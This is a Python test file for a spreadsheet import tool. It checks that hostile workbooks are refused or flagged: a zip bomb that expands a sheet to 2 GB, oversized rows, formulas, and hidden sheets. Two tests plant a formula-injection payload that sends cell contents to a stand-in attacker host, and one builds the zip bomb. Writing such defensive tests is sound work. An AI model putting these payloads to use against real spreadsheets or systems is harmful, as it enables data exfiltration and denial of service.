"""Workbooks that could hurt: a zip bomb, too many rows, formulas, text that looks like a formula on
export, hidden sheets and rows. Each is refused or named before anything is written."""
from __future__ import annotations

import resource
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from lists import guard
from lists.export import export_lists
from lists.models import Enterprise
from tests.factories import make_records, run_import, table_counts, write_xlsx


def test_a_workbook_that_unpacks_to_gigabytes_is_refused_before_it_is_read(session, tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    write_xlsx(tmp_path / "ok.xlsx", make_records(1))
    with zipfile.ZipFile(tmp_path / "ok.xlsx") as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":  # 2 GB of padding inside the sheet, ~2 MB packed
                with out.open(item.filename, "w", force_zip64=True) as f:
                    f.write(data.replace(b"</worksheet>", b""))
                    block = b" " * (16 * 1024 * 1024)
                    for _ in range(128):
                        f.write(block)
                    f.write(b"</worksheet>")
            else:
                out.writestr(item, data)
    assert bomb.stat().st_size < 5 * 1024 * 1024
    before = table_counts(session)
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = run_import(session, bomb)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before < 200 * 1024  # KB: it was not unpacked
    [error] = result.plan.errors
    assert "unpacks to 2048 MB, over the limit of 1536 MB" in error.message and "split it" in error.message
    assert table_counts(session) == before


def test_limits_on_rows_and_cell_length_are_located_errors(session, tmp_path):
    path = write_xlsx(tmp_path / "rows.xlsx", make_records(5))
    issues = []
    assert not guard.check(path, guard.Limits(rows=3), issues)
    assert "more than 3 rows" in issues[0].message and issues[0].sheet == "企业"
    records = make_records(1)
    records["enterprises"][0]["address"] = "长" * 2001
    result = run_import(session, write_xlsx(tmp_path / "long.xlsx", records))
    assert [(e.sheet, e.row, e.column) for e in result.plan.errors] == [("企业", 2, "地址")]


def test_a_formula_is_refused_where_it_stands(session, tmp_path):
    path = write_xlsx(tmp_path / "f.xlsx", make_records(2))
    book = load_workbook(path)
    book["企业"]["B3"] = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    book.save(path)
    before = table_counts(session)
    result = run_import(session, path)
    formula = result.plan.errors[0]  # (its empty value is also reported, at the same row)
    assert (formula.sheet, formula.row, formula.column) == ("企业", 3, "B3")
    assert "enter the value, not a formula" in formula.message
    assert table_counts(session) == before


def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back_unchanged(session, tmp_path):
    records = make_records(2)
    records["enterprises"][0]["name"] = '=HYPERLINK("http://evil.example/","点击查看")'
    records["enterprises"][1]["name"] = "+86 测试 @公司 -一厂"
    assert not run_import(session, write_xlsx(tmp_path / "in.xlsx", records, text_cells=True)).plan.errors
    out = tmp_path / "out.xlsx"
    export_lists(session=session, path=out, rules=__import__("config.rulesets", fromlist=["load"]).load("national-2024"))
    with zipfile.ZipFile(out) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    again = run_import(session, out)
    assert not again.plan.errors and again.versions_created == 0
    names = set(session.scalars(select(Enterprise.name)))
    assert '=HYPERLINK("http://evil.example/","点击查看")' in names


def test_hidden_sheets_and_rows_are_named_in_warnings(session, tmp_path):
    path = write_xlsx(tmp_path / "h.xlsx", make_records(3))
    book = load_workbook(path)
    book.create_sheet("备注").sheet_state = "hidden"
    book["企业"].row_dimensions[3].hidden = True
    book.save(path)
    result = run_import(session, path)
    warnings = [(w.sheet, w.message) for w in result.plan.warnings]
    assert ("备注", "sheet '备注' is hidden: ignored") in warnings
    assert any(sheet == "企业" and "rows 3 are hidden" in message for sheet, message in warnings)
    assert result.written
